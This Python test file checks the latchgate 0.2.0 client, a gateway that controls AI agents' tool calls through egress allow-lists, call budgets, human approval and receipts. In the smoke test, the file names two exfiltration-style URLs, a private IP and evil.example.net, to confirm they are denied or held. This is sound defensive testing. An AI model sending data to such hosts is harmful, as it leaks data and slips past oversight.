"""The published client 0.2.0, unmodified, as its documentation uses it (spec/http-api.md 15)."""

from __future__ import annotations

import asyncio
from importlib.metadata import version

import latchgate
import pytest
from conftest import ISSUE
from gate_driver import Gate
from latchgate import (
    LatchGateApprovalRequired,
    LatchGateBudgetExhausted,
    LatchGateClient,
    LatchGateDenied,
)

PAGE = {"url": "https://api.github.com/data"}


def test_the_client_is_the_published_one() -> None:
    assert version("latchgate") == "0.2.0"
    assert "site-packages" in str(latchgate.__file__)


def test_hello(gate: Gate) -> None:
    async def hello() -> None:
        async with LatchGateClient(agent_id="hello-agent") as client:
            result = await client.execute("http_fetch", PAGE)
            assert result.output["ok"] is True
            assert result.output["data"]["status_code"] == 200
            receipt = await client.get_receipt(result.receipt_id)
            assert receipt.is_fully_successful
            assert receipt.provider_module == "builtin:http_api"

    asyncio.run(hello())
    assert [(one["method"], one["host"], one["url"]) for one in gate.requests] == [
        ("GET", "api.github.com", "/data")
    ]


def test_smoke(gate: Gate) -> None:
    async def smoke() -> None:
        async with LatchGateClient(agent_id="smoke-agent") as client:
            await client.connect(agent_id="smoke-agent", scopes=["tools:call"], max_calls=10)
            receipts = [(await client.execute("http_fetch", PAGE)).receipt_id for _ in range(5)]
            assert len(set(receipts)) == 5
            assert (
                "api.github.com" in (await client.get_action_egress("http_fetch")).allowed_domains
            )
            with pytest.raises(LatchGateDenied, match="egress_denied: "):
                await client.execute("http_fetch", {"url": "https://10.0.0.1/exfil"})
            # Somebody may allow a host that is not on the list: nothing is sent until then.
            with pytest.raises(LatchGateApprovalRequired):
                await client.execute("http_fetch", {"url": "https://evil.example.net/exfil"})
            with pytest.raises(LatchGateDenied):
                await client.execute("http_fetch", {})

    asyncio.run(smoke())
    assert [one["method"] for one in gate.requests] == ["GET"] * 5


def test_a_spent_budget_is_told_as_one(gate: Gate) -> None:
    async def spend() -> None:
        async with LatchGateClient() as client:
            await client.connect(agent_id="budget-agent", max_calls=1)
            await client.execute("http_fetch", PAGE)
            with pytest.raises(LatchGateBudgetExhausted):
                await client.execute("http_fetch", PAGE)

    asyncio.run(spend())
    assert len(gate.requests) == 1


def test_a_held_call_runs_once_it_is_approved(gate: Gate) -> None:
    async def held() -> None:
        async with LatchGateClient(agent_id="approval-agent") as client:
            with pytest.raises(LatchGateApprovalRequired) as caught:
                await client.execute("github_create_issue", ISSUE)
            approval_id = caught.value.approval_id
            assert (await client.get_approval_status(approval_id)).is_pending
            assert gate.requests == []

            approved = gate.approve(approval_id)
            assert approved["status"] == 200
            status = await client.get_approval_status(approval_id)
            assert (status.is_approved, status.is_pending) == (True, False)
            assert status.receipt_id == approved["body"]["receipt_id"]
            assert (await client.get_receipt(str(status.receipt_id))).is_fully_successful

    asyncio.run(held())
    assert [(one["method"], one["url"]) for one in gate.requests] == [
        ("POST", "/repos/acme/rocket/issues")
    ]


def test_a_denied_call_never_runs(gate: Gate) -> None:
    async def denied() -> None:
        async with LatchGateClient(agent_id="approval-agent") as client:
            with pytest.raises(LatchGateApprovalRequired) as caught:
                await client.execute("github_create_issue", ISSUE)
            assert gate.deny(caught.value.approval_id)["status"] == 200
            assert (await client.get_approval_status(caught.value.approval_id)).is_denied

    asyncio.run(denied())
    assert gate.requests == []


def test_after_a_restart_of_the_gate_a_new_connect_is_enough(gate: Gate) -> None:
    async def go_on() -> None:
        async with LatchGateClient(agent_id="long-agent") as client:
            await client.execute("http_fetch", PAGE)
            gate.restart()
            await client.connect(agent_id="long-agent")
            assert (await client.execute("http_fetch", PAGE)).output["ok"] is True

    asyncio.run(go_on())
    assert len(gate.requests) == 2
